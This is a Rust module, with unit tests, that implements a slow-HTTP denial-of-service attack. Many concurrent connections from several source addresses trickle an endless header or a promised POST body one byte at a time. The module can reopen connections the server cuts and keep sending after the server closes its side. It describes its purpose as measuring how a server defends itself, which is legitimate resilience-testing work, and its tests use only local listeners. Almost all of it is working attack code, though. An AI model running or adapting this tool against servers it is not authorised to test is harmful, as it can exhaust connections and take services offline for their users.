//! The attack: connections that send one byte at a time, of a head that never ends or of a body that was promised. What is
//! measured is the server's defence: when it cut each of them, and what it said.

use std::cmp::Reverse;
use std::collections::{BinaryHeap, HashMap, VecDeque};
use std::io::{self, Read, Write};
use std::net::TcpStream;
use std::time::{Duration, Instant};

use crate::answer::status_line;
use crate::dial::Sources;
use crate::opening::Openings;
use crate::poller::{Interest, Poller, Ready, is_transient};
use crate::request::Target;

mod report;

pub use report::{Ending, Report};

/// What is sent of a head after its first two lines: whole fields, so that a server which only bounds a line sees none.
const FIELD: &[u8] = b"X-Slow: 1\r\n";

/// The body promised in [`Mode::Body`], small enough that no server refuses it for its size.
const BODY_BYTES: u64 = 100_000;

/// Bytes of an answer that are kept: the version and the status.
const ANSWER_BYTES: usize = 12;

/// A shorter interval would make a turn that never ends.
const INTERVAL_MIN: Duration = Duration::from_millis(1);

/// How long a lost connection's place stays empty under [`Plan::reopen`], so that a server which refuses at once is not
/// dialled in a busy loop.
const REOPEN_PAUSE: Duration = Duration::from_millis(100);

/// Which part of a request is slow.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Mode {
    /// A head that never ends.
    Head,
    /// A body after a whole head.
    Body,
}

/// An attack.
#[derive(Clone, Debug)]
pub struct Plan {
    /// Whom to attack.
    pub target: Target,
    /// How many at once.
    pub connections: usize,
    /// Where they come from.
    pub sources: Sources,
    /// Which part is slow.
    pub mode: Mode,
    /// Between two bytes of one connection.
    pub interval: Duration,
    /// The attack ends after this at the latest.
    pub duration: Duration,
    /// Whether a connection that was cut is replaced.
    pub reopen: bool,
    /// Whether to go on sending after the server's end of stream, until it resets.
    pub cling: bool,
}

/// Attacks, and reports.
pub fn run(plan: &Plan) -> io::Result<Report> {
    let mut attack = Attack::new(plan)?;
    let end = attack.start + plan.duration;
    let mut ready = Vec::new();
    loop {
        attack.open_some();
        if Instant::now() >= end || attack.is_over() {
            return Ok(attack.finish());
        }
        let until = attack.next_moment().map_or(end, |moment| moment.min(end));
        attack.poller.wait(until, &mut ready)?;
        for event in &ready {
            attack.handle_ready(*event);
        }
        attack.trickle_due(Instant::now());
    }
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Phase {
    Trickling,
    /// The server ended its side; we do not.
    Clinging,
}

#[derive(Debug)]
struct Trickle {
    stream: TcpStream,
    phase: Phase,
    /// When the first byte was sent.
    since: Instant,
    sent: usize,
    answer: Vec<u8>,
}

#[derive(Debug)]
struct Attack<'a> {
    plan: &'a Plan,
    interval: Duration,
    opening_bytes: Vec<u8>,
    poller: Poller,
    start: Instant,
    openings: Openings,
    /// The open ones, by their number.
    trickles: HashMap<u64, Trickle>,
    to_open: usize,
    /// When each sends its next byte, the earliest on top. At most one entry a connection.
    due: BinaryHeap<Reverse<(Instant, u64)>>,
    /// In order, for all share one pause.
    reopen_at: VecDeque<Instant>,
    report: Report,
}

impl<'a> Attack<'a> {
    fn new(plan: &'a Plan) -> io::Result<Self> {
        let opening_bytes = match plan.mode {
            Mode::Head => plan.target.get_without_end(),
            Mode::Body => plan.target.post_head(BODY_BYTES),
        };
        Ok(Self {
            plan,
            interval: plan.interval.max(INTERVAL_MIN),
            opening_bytes,
            poller: Poller::new()?,
            start: Instant::now(),
            openings: Openings::default(),
            trickles: HashMap::with_capacity(plan.connections),
            to_open: plan.connections,
            due: BinaryHeap::with_capacity(plan.connections),
            reopen_at: VecDeque::new(),
            report: Report::default(),
        })
    }

    fn is_over(&self) -> bool {
        self.to_open == 0
            && self.openings.count() == 0
            && self.trickles.is_empty()
            && self.reopen_at.is_empty()
    }

    fn next_moment(&self) -> Option<Instant> {
        let due = self.due.peek().map(|Reverse((moment, _))| *moment);
        due.into_iter().chain(self.reopen_at.front().copied()).min()
    }

    fn open_some(&mut self) {
        let now = Instant::now();
        while self.reopen_at.front().is_some_and(|moment| *moment <= now) {
            self.reopen_at.pop_front();
            self.to_open += 1;
        }
        while self.to_open > 0 && self.openings.have_room() {
            self.to_open -= 1;
            let begun =
                self.openings
                    .start(&self.poller, self.plan.target.address, self.plan.sources);
            if let Err(error) = begun {
                self.refused(&error);
            }
        }
    }

    fn handle_ready(&mut self, event: Ready) {
        if let Some(opened) = self.openings.finish(&self.poller, event.key) {
            match opened {
                Ok(stream) => self.handle_opened(event.key, stream),
                Err(error) => self.refused(&error),
            }
            return;
        }
        let Some(phase) = self.trickles.get(&event.key).map(|trickle| trickle.phase) else {
            return;
        };
        match phase {
            Phase::Trickling => self.handle_readable(event.key),
            Phase::Clinging if event.reset => self.handle_released(event.key),
            Phase::Clinging => {}
        }
    }

    fn handle_opened(&mut self, key: u64, mut stream: TcpStream) {
        let now = Instant::now();
        self.report.opened += 1;
        if self.report.opened == self.plan.connections {
            self.report.opened_within = Some(now - self.start);
        }
        let begun = stream.write_all(&self.opening_bytes);
        let trickle = Trickle {
            stream,
            phase: Phase::Trickling,
            since: now,
            sent: 0,
            answer: Vec::new(),
        };
        self.trickles.insert(key, trickle);
        match begun {
            Ok(()) => {
                // Attackers do not keep step: their first gaps differ, so that their bytes come evenly from then on, and
                // this program never holds its core for thousands of them at once.
                let share =
                    (key % self.plan.connections as u64 + 1) as f64 / self.plan.connections as f64;
                self.due
                    .push(Reverse((now + self.interval.mul_f64(share), key)));
            }
            Err(_) => self.handle_cut(key, Ending::Reset),
        }
    }

    fn handle_readable(&mut self, key: u64) {
        let Some(trickle) = self.trickles.get_mut(&key) else {
            return;
        };
        let mut bytes = [0; 4096];
        match trickle.stream.read(&mut bytes) {
            Ok(0) => self.handle_cut(key, Ending::Closed),
            Ok(count) => {
                if trickle.answer.is_empty() {
                    self.report.answered.record(trickle.since.elapsed());
                }
                let room = ANSWER_BYTES - trickle.answer.len();
                trickle.answer.extend_from_slice(&bytes[..count.min(room)]);
            }
            Err(error) if is_transient(&error) => {}
            Err(_) => self.handle_cut(key, Ending::Reset),
        }
    }

    /// The server has ended the connection, `wordless` if it never answered.
    fn handle_cut(&mut self, key: u64, wordless: Ending) {
        let Some(trickle) = self.trickles.get_mut(&key) else {
            return;
        };
        self.report.lifetimes.record(trickle.since.elapsed());
        *self
            .report
            .endings
            .entry(ending(&trickle.answer, wordless))
            .or_default() += 1;
        let clings = self.plan.cling && wordless == Ending::Closed;
        if clings
            && self
                .poller
                .modify(&trickle.stream, key, Interest::Reset)
                .is_ok()
        {
            trickle.phase = Phase::Clinging;
        } else {
            self.forget(key);
        }
    }

    fn handle_released(&mut self, key: u64) {
        if let Some(trickle) = self.trickles.get(&key) {
            self.report.released.record(trickle.since.elapsed());
            self.forget(key);
        }
    }

    fn refused(&mut self, error: &io::Error) {
        *self
            .report
            .refused
            .entry(error.kind().to_string())
            .or_default() += 1;
        self.reopen();
    }

    fn forget(&mut self, key: u64) {
        self.trickles.remove(&key);
        self.reopen();
    }

    fn reopen(&mut self) {
        if self.plan.reopen {
            self.reopen_at.push_back(Instant::now() + REOPEN_PAUSE);
        }
    }

    fn trickle_due(&mut self, now: Instant) {
        while let Some(Reverse((moment, key))) = self.due.peek().copied() {
            if moment > now {
                return;
            }
            self.due.pop();
            if self.trickle(key) {
                self.due.push(Reverse((now + self.interval, key)));
            }
        }
    }

    /// Sends one byte more; false when the connection is gone.
    fn trickle(&mut self, key: u64) -> bool {
        let Some(trickle) = self.trickles.get_mut(&key) else {
            return false;
        };
        let byte = match self.plan.mode {
            Mode::Head => FIELD[trickle.sent % FIELD.len()],
            Mode::Body if trickle.sent as u64 == BODY_BYTES => return true,
            Mode::Body => b'b',
        };
        trickle.sent += 1;
        match trickle.stream.write(&[byte]) {
            Ok(_) => return true,
            Err(error) if is_transient(&error) => return true,
            Err(_) => {}
        }
        match trickle.phase {
            Phase::Clinging => self.handle_released(key),
            Phase::Trickling => {
                // What the server said before it reset us may still be there to read.
                self.handle_readable(key);
                if self
                    .trickles
                    .get(&key)
                    .is_some_and(|trickle| trickle.phase == Phase::Trickling)
                {
                    self.handle_cut(key, Ending::Reset);
                }
            }
        }
        self.trickles.contains_key(&key)
    }

    fn finish(mut self) -> Report {
        let unfinished = |phase| {
            self.trickles
                .values()
                .filter(|trickle| trickle.phase == phase)
                .count()
        };
        self.report.not_cut = unfinished(Phase::Trickling);
        self.report.not_released = unfinished(Phase::Clinging);
        let unconnected = self.openings.count() + self.to_open;
        if unconnected > 0 {
            self.report
                .refused
                .insert("not connected by the end".to_owned(), unconnected);
        }
        self.report
    }
}

fn ending(answer: &[u8], wordless: Ending) -> Ending {
    if answer.is_empty() {
        return wordless;
    }
    let status = std::str::from_utf8(answer).ok().and_then(status_line);
    status.map_or(Ending::Nonsense, |(status, _)| Ending::Answered(status))
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]
    use std::collections::BTreeMap;
    use std::net::{SocketAddr, TcpListener};
    use std::thread::JoinHandle;

    use super::*;

    const INTERVAL: Duration = Duration::from_millis(2);

    fn plan(address: SocketAddr, mode: Mode) -> Plan {
        Plan {
            target: Target::new(address, "/hello").unwrap(),
            connections: 1,
            sources: Sources::new(1, address).unwrap(),
            mode,
            interval: INTERVAL,
            duration: Duration::from_secs(20),
            reopen: false,
            cling: false,
        }
    }

    /// Serves `connections` one after the other with `serve`.
    fn server(
        connections: usize,
        serve: impl Fn(TcpStream) + Send + 'static,
    ) -> (SocketAddr, JoinHandle<()>) {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let address = listener.local_addr().unwrap();
        let thread = std::thread::spawn(move || {
            for _ in 0..connections {
                serve(listener.accept().unwrap().0);
            }
        });
        (address, thread)
    }

    fn read_until(stream: &mut TcpStream, wanted: usize) -> Vec<u8> {
        let mut bytes = vec![0; wanted];
        stream.read_exact(&mut bytes).unwrap();
        bytes
    }

    #[test]
    fn a_head_comes_a_byte_at_a_time_until_the_server_answers_and_closes() {
        let (address, thread) = server(1, |mut stream| {
            let first = format!(
                "GET /hello HTTP/1.1\r\nHost: {}\r\n",
                stream.local_addr().unwrap()
            );
            let bytes = read_until(&mut stream, first.len() + 15);
            assert_eq!(bytes, [first.as_bytes(), b"X-Slow: 1\r\nX-Sl"].concat());
            stream
                .write_all(b"HTTP/1.1 408 Request Timeout\r\nConnection: close\r\n\r\n")
                .unwrap();
        });
        let report = run(&plan(address, Mode::Head)).unwrap();
        thread.join().unwrap();
        assert_eq!(report.endings, BTreeMap::from([(Ending::Answered(408), 1)]));
        let [lifetime, ..] = report.lifetimes.figures().unwrap();
        assert!(lifetime >= INTERVAL * 15, "{lifetime:?}");
        assert_eq!(
            (report.opened, report.not_cut, report.answered.count()),
            (1, 0, 1)
        );
        assert!(
            report.json().contains("\"endings\":{\"408\":1}"),
            "{}",
            report.json()
        );
    }

    #[test]
    fn a_body_trickles_after_a_whole_head() {
        let (address, thread) = server(1, |mut stream| {
            let host = stream.local_addr().unwrap();
            let head = format!(
                "POST /hello HTTP/1.1\r\nHost: {host}\r\nContent-Length: {BODY_BYTES}\r\n\r\n"
            );
            let bytes = read_until(&mut stream, head.len() + 3);
            assert_eq!(bytes, [head.as_bytes(), b"bbb"].concat());
        });
        let report = run(&plan(address, Mode::Body)).unwrap();
        thread.join().unwrap();
        assert_eq!(report.endings, BTreeMap::from([(Ending::Closed, 1)]));
    }

    #[test]
    fn a_connection_that_is_never_cut_is_counted_as_such_at_the_end() {
        let (send, receive) = std::sync::mpsc::channel::<()>();
        let (address, thread) = server(1, move |stream| {
            // Held until the attacker is done.
            let _ = receive.recv();
            drop(stream);
        });
        let short = Plan {
            duration: Duration::from_millis(20),
            ..plan(address, Mode::Head)
        };
        let report = run(&short).unwrap();
        send.send(()).unwrap();
        thread.join().unwrap();
        assert_eq!(
            (report.opened, report.not_cut, report.lifetimes.count()),
            (1, 1, 0)
        );
    }

    #[test]
    fn clinging_goes_on_past_the_end_of_stream_until_the_reset() {
        let (address, thread) = server(1, |mut stream| {
            stream.shutdown(std::net::Shutdown::Write).unwrap();
            read_until(&mut stream, 60);
            // Dropped: the next byte meets a reset.
        });
        let report = run(&Plan {
            cling: true,
            ..plan(address, Mode::Head)
        })
        .unwrap();
        thread.join().unwrap();
        assert_eq!(report.endings, BTreeMap::from([(Ending::Closed, 1)]));
        let (cut, released) = (
            report.lifetimes.figures().unwrap()[3],
            report.released.figures().unwrap()[3],
        );
        assert!(cut < released, "{cut:?} {released:?}");
        assert_eq!(report.not_released, 0);
    }

    #[test]
    fn a_cut_connection_is_replaced_when_asked() {
        let (address, thread) = server(3, drop);
        let report = run(&Plan {
            reopen: true,
            duration: REOPEN_PAUSE * 2 + REOPEN_PAUSE / 2,
            ..plan(address, Mode::Head)
        });
        let report = report.unwrap();
        // The first, and two that replaced it, unless this machine stalled: then fewer, and the server is let go here.
        for _ in report.opened..3 {
            let _ = TcpStream::connect(address);
        }
        thread.join().unwrap();
        assert!((2..=3).contains(&report.opened), "{report}");
    }

    #[test]
    fn a_refusal_is_counted_by_its_error() {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let address = listener.local_addr().unwrap();
        drop(listener);
        let report = run(&plan(address, Mode::Head)).unwrap();
        assert_eq!(
            report.refused,
            BTreeMap::from([("connection refused".to_owned(), 1)])
        );
        assert_eq!(report.opened, 0);
    }
}
